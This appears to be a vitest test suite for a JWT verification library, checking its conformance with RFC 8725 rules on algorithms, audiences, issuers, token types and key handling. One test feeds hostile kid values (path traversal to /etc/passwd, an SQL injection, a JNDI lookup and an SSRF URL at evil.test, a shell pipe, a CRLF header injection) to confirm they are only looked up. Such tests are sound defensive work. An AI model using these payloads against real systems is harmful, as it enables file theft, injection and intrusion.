import { deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { ConfigError, createGuard, type GuardOptions } from '../../src/index.js';
import { bearing, judge } from './ask.js';
import {
  allAlgorithms,
  audience,
  claimsOf,
  guardFor,
  headerOf,
  issuer,
  keyFor,
  mint,
  named,
  now,
  signText,
} from './mint.js';

const key = await keyFor('ES256');
const guard = guardFor([key.jwk]);
const header = (more: object = {}) => JSON.stringify(headerOf(key, more));

describe.each(allAlgorithms)('RFC 8725 §3.1, the list of %s alone', (algorithm) => {
  test(`RFC 8725 §3.1 [C01]: ${algorithm} MUST be accepted where it is listed`, async () => {
    const { jwk } = await keyFor(algorithm);
    const listed = guardFor([jwk], { algorithms: [algorithm] });
    expect(await judge(listed, mint(await keyFor(algorithm)))).toBe('allowed');
  });

  test(`RFC 8725 §3.1 [C01]: ${algorithm} MUST be refused where it is not, before any fetch`, async () => {
    const others = allAlgorithms.filter((other) => other !== algorithm);
    let fetches = 0;
    const fetch = async () => {
      fetches += 1;
      return Response.json({ keys: [] });
    };
    const unlisted = guardFor([], { algorithms: others, fetch });
    expect(await judge(unlisted, mint(await keyFor(algorithm)))).toBe('ERR_TOKEN_ALGORITHM');
    expect(fetches).toBe(0);
  });
});

describe('RFC 8725 §3.1, what can be configured', () => {
  const options = (more: object) => () =>
    createGuard({ issuer, audience, now, ...more } as GuardOptions);

  test.each([
    ...['HS256', 'HS384', 'HS512', 'none', 'NONE', 'ES256K', 'Ed448', 'es256', '', 'constructor'],
    ...[null, 1, {}],
  ])('RFC 8725 §3.1, §3.2 [C01] [J06]: the algorithm %j MUST NOT be configured', (algorithm) => {
    expect(options({ algorithms: ['ES256', algorithm] })).toThrow(ConfigError);
    expect(options({ algorithms: algorithm })).toThrow(ConfigError);
  });

  test('RFC 8725 §3.1 [C01]: an empty list MUST NOT be configured', () => {
    expect(options({ algorithms: [] })).toThrow(ConfigError);
    expect(options({ algorithms: undefined })).toThrow(ConfigError);
  });

  test.each([undefined, null, '', [], [''], [undefined], 1, {}])(
    'RFC 8725 §3.9 [C08]: a guard MUST NOT be made without an audience, such as %j',
    (nobody) => {
      expect(options({ audience: nobody })).toThrow(ConfigError);
    },
  );

  test('RFC 8725 §3.9 [C08]: nor with the option left out', () => {
    expect(() => createGuard({ issuer, now } as unknown as GuardOptions)).toThrow(ConfigError);
  });
});

describe('RFC 8725 §3, tokens', () => {
  test('RFC 8725 §3.1 [C02]: a key MUST be used with its own algorithm only', async () => {
    const rsa = await keyFor('PS256');
    for (const algorithm of ['RS256', 'PS384', 'PS512'] as const) {
      const other = named(rsa, rsa.kid, algorithm);
      expect(await judge(guardFor([rsa.jwk]), mint(other))).toBe('ERR_TOKEN_KEY_MISMATCH');
    }
  });

  test.each([
    ['as the payload', (inner: string) => inner],
    ['as a JSON text', (inner: string) => JSON.stringify(inner)],
    ['in a list', (inner: string) => JSON.stringify([inner])],
  ])('RFC 8725 §3.3 [C03]: a nested token %s MUST be refused', async (_, nest) => {
    const text = signText(header({ cty: 'JWT' }), nest(mint(key)), key);
    expect(await judge(guard, text)).toBe('ERR_TOKEN_MALFORMED');
  });

  test('RFC 8725 §3.4 [C04]: a key whose point is not on its curve MUST NOT be used', async () => {
    const x = String(key.jwk.x);
    const off = { ...key.jwk, x: (x.startsWith('A') ? 'B' : 'A') + x.slice(1) };
    const zero = { ...key.jwk, x: 'A'.repeat(43), y: 'A'.repeat(43) };
    const beside = named(await keyFor('ES256', 'other'), 'beside').jwk;
    for (const jwk of [off, zero, { ...key.jwk, y: key.jwk.x }]) {
      expect(await judge(guardFor([jwk, beside]), mint(key))).toBe('ERR_TOKEN_KEY_UNKNOWN');
    }
  });

  test.each(['DEF', 'gzip'])(
    'RFC 8725 §3.6 [C05]: a payload under zip %s MUST NOT be inflated',
    async (zip) => {
      const packed = deflateRawSync(JSON.stringify(claimsOf()));
      expect(await judge(guard, signText(header({ zip }), packed, key))).toBe(
        'ERR_TOKEN_MALFORMED',
      );
    },
  );

  test('RFC 8725 §3.8 [C06]: the key of an issuer MUST NOT verify for another', async () => {
    const other = 'https://other.test';
    const theirs = named(await keyFor('ES256', 'theirs'), key.kid);
    const keysAt = new Map([
      [`${issuer}/jwks`, [key.jwk]],
      [`${other}/jwks`, [theirs.jwk]],
    ]);
    const both = createGuard({
      issuers: [issuer, other].map((one) => ({ issuer: one, audience, jwksUri: `${one}/jwks` })),
      fetch: async (url) => Response.json({ keys: keysAt.get(String(url)) }),
      now,
    });
    expect(await judge(both, mint(key))).toBe('allowed');
    expect(await judge(both, mint(theirs, { claims: { iss: other } }))).toBe('allowed');
    expect(await judge(both, mint(key, { claims: { iss: other } }))).toBe('ERR_TOKEN_SIGNATURE');
    expect(await judge(both, mint(theirs))).toBe('ERR_TOKEN_SIGNATURE');
  });

  test('RFC 8725 §3.8 [C07]: a subject MUST come with its issuer', async () => {
    const decision = await guard(bearing(mint(key)));
    expect(decision).toMatchObject({ allowed: true, principal: { issuer, subject: 'user_1' } });
  });

  test.each([
    '../../etc/passwd',
    'https://evil.test/key',
    "' OR 1=1 --",
    '\u0024{jndi:ldap://evil.test}',
    '|cat /etc/passwd',
    '?kid=a#b',
    '\r\nHost: evil.test',
  ])('RFC 8725 §3.10 [C09]: the kid %j MUST only be looked up', async (kid) => {
    const fetched: string[] = [];
    const fetch: typeof globalThis.fetch = async (url) => {
      fetched.push(String(url));
      return Response.json({ keys: [key.jwk] });
    };
    const watched = guardFor([], { fetch });
    expect(await judge(watched, mint(key, { header: { kid } }))).toBe('ERR_TOKEN_KEY_UNKNOWN');
    expect(new Set(fetched)).toEqual(new Set([`${issuer}/jwks`]));
  });

  test('RFC 8725 §3.11 [C10]: where a type is asked for, no other SHOULD be accepted', async () => {
    const typed = guardFor([key.jwk], { typ: ['at+jwt'] });
    expect(await judge(typed, mint(key))).toBe('allowed');
    for (const typ of ['JWT', 'id+jwt', undefined]) {
      expect(await judge(typed, mint(key, { header: { typ } }))).toBe('ERR_TOKEN_TYPE');
    }
  });

  test.each(
    [
      ['dpop+jwt', 'token-introspection+jwt', 'logout+jwt', 'secevent+jwt', 'oauth-authz-req+jwt'],
      ['client-authentication+jwt', 'vc+sd-jwt', 'kb+jwt', 'entity-statement+jwt', 'JOSE', 'JWE'],
    ].flat(),
  )('RFC 8725 §3.12 [C11]: %s is no access token, so it MUST be refused', async (typ) => {
    expect(await judge(guard, mint(key, { header: { typ } }))).toBe('ERR_TOKEN_TYPE');
  });

  test.each([
    ...[{ at_hash: 'a' }, { at_hash: null }, { c_hash: 'a' }, { c_hash: '' }],
    ...[{ events: {} }, { events: null }, { events: [] }],
    ...[
      { token_use: 'id' },
      { token_use: 'ACCESS' },
      { token_use: null },
      { token_use: ['access'] },
    ],
  ])(
    'RFC 8725 §3.12 [C11]: %j is of another kind of JWT, so it MUST be refused',
    async (claims) => {
      expect(await judge(guard, mint(key, { claims }))).toBe('ERR_TOKEN_NOT_ACCESS_TOKEN');
    },
  );

  test('RFC 8725 §3.12 [C11]: token_use access is an access token', async () => {
    expect(await judge(guard, mint(key, { claims: { token_use: 'access' } }))).toBe('allowed');
  });

  test.each([
    ['five segments, under a good header', `${mint(key)}.a.b`, 'ERR_TOKEN_ENCRYPTED'],
    [
      'three segments, with enc',
      mint(key, { header: { alg: 'dir', enc: 'A128GCM' } }),
      'ERR_TOKEN_ALGORITHM',
    ],
    ['another case', mint(key, { header: { alg: 'eS256' } }), 'ERR_TOKEN_ALGORITHM'],
  ])('draft-ietf-oauth-rfc8725bis [C12]: %s MUST be refused', async (_, text, code) => {
    expect(await judge(guard, text)).toBe(code);
  });
});
